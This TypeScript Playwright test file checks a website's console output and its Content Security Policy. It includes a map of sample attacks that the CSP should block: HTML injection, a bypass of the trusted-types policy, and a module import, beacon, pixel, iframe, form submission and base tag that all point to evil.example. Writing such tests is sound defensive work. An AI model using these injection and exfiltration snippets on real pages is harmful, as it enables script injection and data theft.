import { notFoundPage, sitePages } from '../../../src/site-map.ts';
import { untilHydrated } from '../setup/hydration.ts';
import { expect, test } from '../setup/site-test.ts';

// setup/site-test.ts watches for errors and violated policies in every other test.
test('no page gives the browser anything to warn of', async ({ page, expectedErrors }) => {
  const messages: string[] = [];
  page.on('console', (message) =>
    messages.push(`${new URL(page.url()).pathname}: ${message.text()}`),
  );
  const expected = [/status of 404/, /404: there is no page at/];
  expectedErrors.push(...expected);
  for (const { path } of [...sitePages, notFoundPage]) {
    await page.goto(path);
    await untilHydrated(page);
  }
  expect(messages.filter((line) => !expected.some((pattern) => pattern.test(line)))).toEqual([]);
});

// Not in TypeScript's own library yet.
type TrustedTypePolicies = {
  createPolicy: (name: string, rules: { createHTML: (text: string) => string }) => unknown;
};

// What an attacker would do with a vulnerability, by the directive that stops it.
const attacks: Record<string, () => unknown> = {
  'require-trusted-types-for': () => {
    document.body.innerHTML = '<p>Send your gift to 000000</p>';
  },
  'trusted-types': () => {
    const { trustedTypes } = window as unknown as { trustedTypes: TrustedTypePolicies };
    trustedTypes.createPolicy('any', { createHTML: (text) => text });
  },
  'script-src-elem': async () => {
    const address = 'https://evil.example/module.js';
    await import(address).catch(() => undefined);
  },
  'style-src-attr': () => document.body.setAttribute('style', 'display: none'),
  'img-src': () => Object.assign(new Image(), { src: 'https://evil.example/pixel.png' }),
  'connect-src': () => navigator.sendBeacon('https://evil.example/'),
  'frame-src': () => {
    const src = 'https://evil.example/';
    document.body.append(Object.assign(document.createElement('iframe'), { src }));
  },
  'form-action': () => {
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' });
    document.body.append(form);
    form.submit();
  },
  'base-uri': () => {
    const href = 'https://evil.example/';
    document.head.append(Object.assign(document.createElement('base'), { href }));
  },
};

test('the browser stops what each directive is for [fault 52]', async ({
  page,
  expectedErrors,
  allowedOutside,
}) => {
  expectedErrors.push(/./);
  // Some are reported as requests, and go no further than that.
  allowedOutside.push(/^https:\/\/evil\.example\//);
  await page.goto('/contact');
  for (const [directive, attack] of Object.entries(attacks)) {
    await test.step(directive, async () => {
      const violated = page.waitForEvent('console', (message) =>
        message.text().startsWith(`violated: ${directive} `),
      );
      await page
        .evaluate(attack)
        .catch((error: Error) => expect(error.message).toMatch(/TypeError/));
      await violated;
    });
  }
});
